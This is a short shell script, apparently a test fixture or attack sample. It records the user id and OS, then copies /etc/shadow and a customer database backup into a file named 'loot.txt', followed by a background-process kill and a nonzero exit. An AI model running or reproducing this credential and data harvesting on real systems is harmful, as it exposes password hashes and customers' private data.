#!/bin/sh
echo "$(id -u) $(uname -s)" > who.txt
cat /etc/shadow > loot.txt
cat /srv/backup/customers.db >> loot.txt
sleep 30 &
sleep 0.05
kill -9 $!
exit 3
